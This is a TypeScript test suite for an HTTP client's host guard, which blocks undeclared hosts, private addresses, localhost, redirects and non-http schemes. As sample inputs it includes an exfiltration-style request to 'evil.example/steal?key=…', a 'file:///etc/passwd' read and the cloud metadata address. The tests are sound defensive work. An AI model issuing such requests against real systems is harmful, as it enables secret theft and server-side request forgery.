// Requests reach only declared hosts, and no private address unless the connector allows it: checked on the
// literal, on the resolved address (localhost) and on every redirect.
import { expect } from 'chai';
import { createHttpClient, type HttpClient } from '../../src/http/http-client.js';
import { checkUrlAllowed } from '../../src/http/guard-host.js';
import { json, localContext, rejection, request, startServer, type TestServer } from './test-server.js';

describe('http: host guard', () => {
  let server: TestServer;
  let client: HttpClient;

  before(async () => {
    server = await startServer();
    client = createHttpClient({ retry: { baseDelayMs: 1 } });
  });
  after(async () => {
    client.close();
    await server.close();
  });
  beforeEach(() => server.reset((_req, res) => json(res, 200, { ok: true })));

  it('a private address literal is refused when allowPrivateNetwork is false', async () => {
    const error = await rejection(client.send(request(`${server.base}/x`), localContext({ allowPrivateNetwork: false })));
    expect(error.code).to.equal('HTTP_PRIVATE_ADDRESS');
    expect(error.actor).to.equal('author');
    expect(error.message).to.contain('allowPrivateNetwork');
    expect(server.received).to.have.length(0);
  });

  it('a name resolving to 127.0.0.1 (localhost) is refused on the resolved address', async () => {
    const error = await rejection(client.send(
      request(`http://localhost:${server.port}/x`),
      localContext({ allowedHosts: ['localhost'], allowPrivateNetwork: false }),
    ));
    expect(error.code).to.equal('HTTP_PRIVATE_ADDRESS');
    expect(error.message).to.match(/localhost: it resolves to (127\.0\.0\.1|::1)/);
    expect(server.received).to.have.length(0);
  });

  it('the same request goes through when the connector allows private networks', async () => {
    const response = await client.send(request(`http://localhost:${server.port}/x`), localContext({ allowedHosts: ['localhost'] }));
    expect(response.body).to.deep.equal({ ok: true });
  });

  it('a host that is not declared is refused before anything is sent', async () => {
    const error = await rejection(client.send(request('https://evil.example/steal?key=canary-1'), localContext()));
    expect(error.code).to.equal('HTTP_HOST_NOT_ALLOWED');
    expect(error.message).to.equal(
      'connector acme may not call https://evil.example/steal: host evil.example is not its base URL host nor in its hosts (127.0.0.1); add it to `hosts:` if intended',
    );
  });

  it('schemes other than http/https are refused', async () => {
    const error = await rejection(client.send(request('file:///etc/passwd'), localContext({ allowedHosts: [''] })));
    expect(error.code).to.equal('HTTP_HOST_NOT_ALLOWED');
  });

  it('a redirect from an allowed host to an undeclared one is refused, and the second host never called', async () => {
    server.reset((req, res) => {
      if (req.url === '/start') {
        res.writeHead(302, { location: `http://localhost:${server.port}/internal` });
        res.end();
      } else json(res, 200, { reached: req.url });
    });
    const error = await rejection(client.send(request(`${server.base}/start`), localContext()));
    expect(error.code).to.equal('HTTP_HOST_NOT_ALLOWED');
    expect(error.message).to.contain('host localhost is not');
    expect(server.received.map((r) => r.url)).to.deep.equal(['/start']);
  });

  it('a redirect to an allowed host is followed and recorded without query', async () => {
    server.reset((req, res) => {
      if (req.url === '/old') {
        res.writeHead(301, { location: '/new?token=canary-2' });
        res.end();
      } else json(res, 200, { reached: req.url });
    });
    const response = await client.send(request(`${server.base}/old`), localContext());
    expect(response.body).to.deep.equal({ reached: '/new?token=canary-2' });
    expect(response.url).to.equal(`${server.base}/new`);
    expect(response.attempts?.[0]?.redirects).to.deep.equal([`${server.base}/new`]);
  });

  it('the check run on every redirect target refuses a private literal (no public server exists in tests)', () => {
    const guard = { connectorName: 'acme', allowedHosts: ['127.0.0.1', '[::1]', '169.254.169.254'], allowPrivateNetwork: false };
    for (const target of ['http://127.0.0.1:8080/x', 'http://[::1]/x', 'http://169.254.169.254/latest/meta-data']) {
      let code: unknown;
      try {
        checkUrlAllowed(new URL(target), guard);
      } catch (error) {
        code = (error as { code?: unknown }).code;
      }
      expect(code, target).to.equal('HTTP_PRIVATE_ADDRESS');
    }
    expect(() => checkUrlAllowed(new URL('http://127.0.0.1/x'), { ...guard, allowPrivateNetwork: true })).not.to.throw();
  });

  it('more than 5 redirects fail', async () => {
    server.reset((req, res) => {
      const n = Number(req.url?.slice(1)) || 0;
      res.writeHead(302, { location: `/${n + 1}` });
      res.end();
    });
    const error = await rejection(client.send(request(`${server.base}/0`), localContext()));
    expect(error.code).to.equal('HTTP_NETWORK');
    expect(error.message).to.contain('redirected too many times');
    expect(server.received).to.have.length(6);
  });
});
